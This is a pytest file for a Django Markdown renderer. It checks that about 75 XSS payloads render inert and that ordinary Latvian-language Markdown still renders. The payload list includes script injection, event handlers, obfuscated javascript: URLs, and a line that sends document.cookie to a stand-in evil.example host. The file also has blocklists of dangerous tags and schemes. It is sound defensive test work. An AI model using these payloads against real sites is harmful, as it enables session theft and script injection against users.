"""Markdown from users renders as ordinary formatting, and every XSS payload renders inert.

The output is parsed with :mod:`html.parser` (which decodes entities in attribute values, as
a browser does) and checked element by element, plus a few belt-and-braces substring checks.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from django.utils.safestring import SafeString

from zina.knowledge.rendering import ALLOWED_TAGS, URL_SCHEMES, render_markdown


class Element:
    def __init__(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tag = tag
        self.attrs = {name: value or "" for name, value in attrs}


class Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[Element] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append(Element(tag, attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append(Element(tag, attrs))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def parse(html: str) -> Collector:
    collector = Collector()
    collector.feed(html)
    collector.close()
    return collector


DANGEROUS_TAGS = {
    "script", "iframe", "object", "embed", "style", "form", "meta", "base", "link", "svg",
    "math", "input", "button", "textarea", "select", "body", "html", "frame", "frameset",
    "applet", "video", "audio", "source", "details", "marquee", "isindex", "template",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "background",
                  "poster", "srcset", "lowsrc", "dynsrc", "codebase", "cite"}  # fmt: skip
# Browsers drop ASCII tab/newline anywhere in a URL and trim leading control characters and
# spaces before reading the scheme.
_IGNORED_IN_URL = re.compile(r"[\x00-\x20\x7f]")


def scheme_of(url: str) -> str | None:
    cleaned = _IGNORED_IN_URL.sub("", url).lower()
    match = re.match(r"^([a-z][a-z0-9+.\-]*):", cleaned)
    return match.group(1) if match else None


def assert_inert(html: str) -> None:
    tree = parse(html)
    for element in tree.elements:
        assert element.tag in ALLOWED_TAGS, f"<{element.tag}> survived: {html!r}"
        assert element.tag not in DANGEROUS_TAGS, f"<{element.tag}> survived: {html!r}"
        for name, value in element.attrs.items():
            assert not name.startswith("on"), f"event handler {name}= survived: {html!r}"
            assert name != "style", f"style= survived: {html!r}"
            if name in URL_ATTRIBUTES:
                scheme = scheme_of(value)
                assert scheme is None or scheme in URL_SCHEMES, f"{name}={value!r}: {html!r}"
                assert scheme not in {"javascript", "vbscript", "data", "livescript"}
    # Belt and braces, on the raw markup: no dangerous tag opens anywhere (text that shows a
    # payload is escaped, ``&lt;script``, and stays as harmless as an attribute value that
    # merely contains ``onclick=`` or ``javascript:`` inside quotes).
    lowered = html.lower()
    for needle in ("<script", "<iframe", "<object", "<embed", "<style", "<form", "<meta",
                   "<base", "<svg", "<math", "<link", "<frame", "<input", "<button"):  # fmt: skip
        assert needle not in lowered, f"{needle} in {html!r}"
    # Every tag's own attribute names (outside quoted values) are allowed ones.
    for tag in re.findall(r"<[a-z][^>]*>", re.sub(r'"[^"]*"', '""', lowered)):
        names = re.findall(r"\s([a-z:-]+)(?==)", tag)
        assert not [n for n in names if n.startswith("on")], f"on…= in {html!r}"


XSS_PAYLOADS = [
    # script tags
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    '<script type="text/javascript">document.location="https://evil.example/?"+document.cookie'
    "</script>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="x" ONERROR="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<body onload=alert(1)>",
    '<p onclick="alert(1)">klikšķini</p>',
    '<a href="https://ok.example" onmouseover="alert(1)">x</a>',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    # javascript:, vbscript:, data: URLs in HTML links and images
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<img src=vbscript:msgbox(1)>",
    # Markdown link and image syntax
    "[klikšķini](javascript:alert(1))",
    "[klikšķini](JAVASCRIPT:alert(1))",
    "[klikšķini](&#106;avascript:alert(1))",
    "[klikšķini](javascript&#58;alert(1))",
    "[klikšķini](vbscript:msgbox(1))",
    "[klikšķini](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '[klikšķini](javascript:alert(1) "virsraksts")',
    "![attēls](javascript:alert(1))",
    "![attēls](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[atsauce][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '[x](https://ok.example "title" onclick="alert(1)")',
    # style and expression()
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="width:expression(alert(1))">x</p>',
    "<style>@import 'https://evil.example/x.css';</style>",
    # frames and plugins
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    # forms
    '<form action="javascript:alert(1)"><button type="submit">x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<form><input type="submit" formaction="javascript:alert(1)"></form>',
    # meta refresh and base
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    # SVG and MathML
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    # nested and malformed
    '<a href="javascript:alert(1)"<b>x</b></a>',
    '<img """><script>alert(1)</script>">',
    "<img src=`x` onerror=alert(1)>",
    '<a href="https://ok.example/"><img src=x onerror=alert(1)></a>',
    "<!--<img src=x onerror=alert(1)>-->",
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    # XSS inside Markdown constructs
    "- <img src=x onerror=alert(1)>\n- [x](javascript:alert(1))",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "> <iframe src=https://evil.example></iframe>",
    "## <svg onload=alert(1)>Virsraksts",
]


def test_there_are_enough_payloads() -> None:
    assert len(XSS_PAYLOADS) >= 25


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_payload_renders_inert(payload: str) -> None:
    html = render_markdown(payload)
    assert isinstance(html, SafeString)
    assert_inert(str(html))


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_payload_renders_inert_inside_an_article(payload: str) -> None:
    """The same payload surrounded by ordinary text: context must not re-enable it."""
    source = f"## Risinājums\n\nPirms teksta. {payload} Pēc teksta.\n\n{payload}\n\n- punkts"
    assert_inert(str(render_markdown(source)))


def test_code_blocks_show_payloads_as_text() -> None:
    html = str(render_markdown("```html\n<script>alert(1)</script>\n```\n\n`<img onerror=x>`"))
    assert_inert(html)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<script>alert(1)</script>" in "".join(parse(html).text)


# --- Ordinary Markdown survives ---------------------------------------------------------------


ARTICLE = """\
## Simptomi

Lietotājs **nevar** pieslēgties *portālam*; ~~vecā~~ kļūda.

### Risinājums

1. Atveriet [paroles atjaunošanu](https://www.latvija.lv/parole "Latvija.lv").
2. Ievadiet e-pastu.
   - apakšpunkts

- viens
- divi

> Svarīgi: sazinieties ar atbalstu, ja kļūda atkārtojas.

Rindas `kods` un bloks:

```python
print("sveiki")
```

| Kods | Nozīme |
|:-----|-------:|
| 401  | Nav tiesību |

![Ekrānuzņēmums](https://static.example.lv/attels.png "Ekrāns")

Rakstiet uz <atbalsts@vra.example.lv> vai [zvaniet](tel:+37167000000).

---
"""


def test_ordinary_markdown_is_kept() -> None:
    html = str(render_markdown(ARTICLE))
    tree = parse(html)
    tags = [e.tag for e in tree.elements]
    for tag in ("h2", "h3", "p", "strong", "em", "ol", "ul", "li", "blockquote", "code", "pre",
                "table", "thead", "tbody", "tr", "th", "td", "a", "img", "hr"):  # fmt: skip
        assert tag in tags, f"<{tag}> missing from {html}"
    links = {e.attrs["href"]: e.attrs for e in tree.elements if e.tag == "a"}
    assert links["https://www.latvija.lv/parole"]["title"] == "Latvija.lv"
    assert "tel:+37167000000" in links
    assert any(href.startswith("mailto:") for href in links)  # the e-mail autolink
    for attrs in links.values():
        assert set(attrs["rel"].split()) >= {"noopener", "noreferrer", "nofollow"}
    images = [e.attrs for e in tree.elements if e.tag == "img"]
    assert images == [
        {"src": "https://static.example.lv/attels.png", "alt": "Ekrānuzņēmums", "title": "Ekrāns"}
    ]
    code = [e.attrs for e in tree.elements if e.tag == "code"]
    assert {"class": "language-python"} in code
    text = "".join(tree.text)
    assert 'print("sveiki")' in text
    assert "Nav tiesību" in text
    assert_inert(html)


def test_top_level_heading_stays_a_heading() -> None:
    """Existing documents (the bulk import reads Markdown folders) use ``#`` headings; they
    must not collapse into plain text run together with the next block."""
    html = str(render_markdown("# Kā pieteikties\n\nTeksts."))
    headings = [e.tag for e in parse(html).elements if re.fullmatch(r"h[1-6]", e.tag)]
    assert headings, f"the heading was lost: {html!r}"


def test_plain_text_and_empty_input() -> None:
    assert str(render_markdown("")) == ""
    assert str(render_markdown(None)) == ""  # type: ignore[arg-type]
    html = str(render_markdown("5 < 6 & 7 > 3"))
    assert "".join(parse(html).text).strip() == "5 < 6 & 7 > 3"
    assert "<6" not in html


def test_relative_and_anchor_links_are_kept() -> None:
    html = str(render_markdown("[cits raksts](/zinasanas/12/) un [sadaļa](#soli)"))
    hrefs = [e.attrs.get("href") for e in parse(html).elements if e.tag == "a"]
    assert hrefs == ["/zinasanas/12/", "#soli"]
